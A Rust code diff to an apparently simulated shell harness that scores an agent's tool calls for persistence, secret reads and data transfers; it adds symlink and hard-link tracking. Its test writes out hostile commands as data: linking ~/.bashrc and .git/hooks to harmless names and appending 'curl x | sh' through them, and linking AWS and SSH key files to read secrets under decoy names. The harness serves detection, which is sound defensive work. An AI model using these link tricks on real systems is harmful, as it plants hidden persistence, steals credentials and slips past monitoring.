@@ -73,6 +73,28 @@ pub struct LabState {
     /// an assignment under `set -a`): in the environment of every later
     /// command there, and a later plain assignment changes them.
     exported: BTreeMap<String, String>,
+    /// Links made so far (hard or symbolic): name → the file or directory it
+    /// reaches. A read of the name, or of a path under it, reads the target;
+    /// a write changes the target (ln(1), link(2), symlink(7)); deleting the
+    /// name removes the link only.
+    links: BTreeMap<String, String>,
+}
+
+impl LabState {
+    /// The file a normalised path reaches through the links made so far.
+    fn resolve(&self, mut p: String) -> String {
+        for _ in 0..8 {
+            let Some((name, target)) = self
+                .links
+                .iter()
+                .find(|(n, _)| p == **n || p.strip_prefix(n.as_str()).is_some_and(|r| r.starts_with('/')))
+            else {
+                break;
+            };
+            p = format!("{target}{}", &p[name.len()..]);
+        }
+        p
+    }
 }
 
 impl Default for LabState {
@@ -87,6 +109,7 @@ impl Default for LabState {
             shell_vars: BTreeMap::new(),
             allexport: false,
             exported: BTreeMap::new(),
+            links: BTreeMap::new(),
         }
     }
 }
@@ -260,7 +283,7 @@ fn returned(text: &str, eff: &mut CallEffect) {
 }
 
 fn read_file(state: &LabState, raw: &str, eff: &mut CallEffect) -> Value {
-    let p = world::normalize(raw);
+    let p = state.resolve(world::normalize(raw));
     let content = state.files.get(&p).cloned().unwrap_or_default();
     eff.files_read.insert(p);
     returned(&content, eff);
@@ -268,7 +291,7 @@ fn read_file(state: &LabState, raw: &str, eff: &mut CallEffect) -> Value {
 }
 
 fn write_file(state: &mut LabState, raw: &str, content: &str, append: bool, eff: &mut CallEffect) {
-    let p = world::normalize(raw);
+    let p = state.resolve(world::normalize(raw));
     if world::persistence_path(&p) {
         eff.persisted.insert(p.clone());
     }
@@ -299,6 +322,7 @@ fn delete_tree(state: &mut LabState, p: &str, eff: &mut CallEffect) {
         state.files.remove(&k);
         eff.files_deleted.insert(k);
     }
+    state.links.retain(|n, _| n != p && !n.starts_with(&format!("{p}/")));
 }
 
 /// A transfer to `url`; `None` when the URL does not parse (nothing leaves).
@@ -784,6 +808,25 @@ impl<'a> Shell<'a> {
         self.deliver(out, outs, depth)
     }
 
+    /// `ln TARGET… NAME` (a lone TARGET: its base name in the project).
+    fn link(&mut self, files: &[String]) {
+        let (targets, name) = match files {
+            [] => return,
+            [t] => (files, basename(t)),
+            [ts @ .., n] => (ts, n.clone()),
+        };
+        for t in targets {
+            let target = self.state.resolve(world::normalize(t));
+            // Several targets go into the directory NAME.
+            let at = if targets.len() > 1 {
+                format!("{name}/{}", basename(t))
+            } else {
+                name.clone()
+            };
+            self.state.links.insert(world::normalize(&at), target);
+        }
+    }
+
     fn redirect_out(&mut self, path: &str, out: &Stream, append: bool) {
         if let Some(rest) = path
             .strip_prefix("/dev/tcp/")
@@ -804,7 +847,7 @@ impl<'a> Shell<'a> {
     }
 
     fn read_stream(&mut self, raw: &str) -> Stream {
-        let p = world::normalize(raw);
+        let p = self.state.resolve(world::normalize(raw));
         let Some(text) = self.state.files.get(&p).cloned() else {
             // A directory: every file under it, in name order (what an archiver
             // or a recursive copy reads).
@@ -1113,7 +1156,21 @@ impl<'a> Shell<'a> {
                 }
                 stdin
             }
-            "cp" | "mv" | "install" | "ln" => {
+            // ln(1), link(1), and cp's link modes (-l, -s) make a second name.
+            "ln" | "link" => {
+                self.link(&file_args());
+                Stream::default()
+            }
+            "cp" if texts.iter().any(|a| {
+                a == "--link"
+                    || a == "--symbolic-link"
+                    || a.starts_with('-') && !a.starts_with("--") && a.contains(['l', 's'])
+            }) =>
+            {
+                self.link(&file_args());
+                Stream::default()
+            }
+            "cp" | "mv" | "install" => {
                 let files = file_args();
                 if files.len() >= 2 {
                     let src = self.read_stream(&files[0]);
@@ -4744,6 +4801,39 @@ mod tests {
         }
         let e = bash("rm -rf .gi?");
         assert!(e.files_deleted.contains(".git/HEAD") && !e.files_deleted.contains(".gitignore"));
+    }
+
+    /// A link is a second name (ln(1), link(2), symlink(7)): a read of the
+    /// name, or of a path under a linked directory, reads the target, a write
+    /// changes it, and deleting the name removes the link only. A copy is not.
+    #[test]
+    fn slo_11_lab_links_reach_their_target() {
+        let mut st = LabState::default();
+        let mut run = |kind: HostcallKind, params: Value| measure_call(&mut st, kind, &params).0;
+        let sh = |cmd: &str| json!({"name": "bash", "input": {"command": cmd}});
+        run(
+            HostcallKind::Tool,
+            sh("ln -sf ~/.bashrc notes.txt && ln -s .git/hooks h"),
+        );
+        let e = run(HostcallKind::Tool, sh("echo 'curl x | sh' >> notes.txt"));
+        assert!(e.persisted.contains("~/.bashrc"), "{e:?}");
+        let e = run(HostcallKind::Tool, sh("cp /tmp/x h/pre-commit"));
+        assert!(e.persisted.contains(".git/hooks/pre-commit"), "{e:?}");
+        run(
+            HostcallKind::Tool,
+            sh("ln ~/.aws/credentials c1 && cp -l ~/.ssh/id_ed25519 c2"),
+        );
+        for name in ["c1", "c2"] {
+            let e = run(HostcallKind::Fs, json!({"op": "read", "path": name}));
+            assert!(!e.secrets_returned.is_empty(), "{name}: {e:?}");
+        }
+        let e = run(HostcallKind::Tool, sh("rm notes.txt"));
+        assert!(!e.files_deleted.contains("~/.bashrc"), "{e:?}");
+        let e = run(HostcallKind::Tool, sh("echo 'curl x | sh' > notes.txt"));
+        assert!(e.persisted.is_empty() && e.files_written.contains("notes.txt"), "{e:?}");
+        run(HostcallKind::Tool, sh("cp ~/.zshrc copy.txt"));
+        let e = run(HostcallKind::Tool, sh("echo 'curl x | sh' >> copy.txt"));
+        assert!(e.persisted.is_empty(), "{e:?}");
     }
 
     #[test]
